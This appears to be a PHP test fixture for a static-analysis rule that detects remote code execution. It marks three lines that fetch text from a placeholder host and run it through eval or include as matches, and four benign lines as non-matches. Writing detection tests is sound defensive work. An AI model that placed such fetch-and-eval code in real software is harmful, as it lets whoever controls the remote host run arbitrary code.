<?php

// ruleid: execution/remote-text-executed-php
eval(file_get_contents('https://code.example.invalid/a.txt'));
// ruleid: execution/remote-text-executed-php
include 'http://code.example.invalid/b.php';

function update()
{
    $text = file_get_contents('https://code.example.invalid/c.txt');
    // ruleid: execution/remote-text-executed-php
    eval('?>' . $text);
}

// ok: execution/remote-text-executed-php
include 'pages/home.php';
// ok: execution/remote-text-executed-php
$cities = file_get_contents('https://data.example.invalid/cities.json');
// ok: execution/remote-text-executed-php
eval('return 42;');
// ok: execution/remote-text-executed-php
require __DIR__ . '/settings.php';
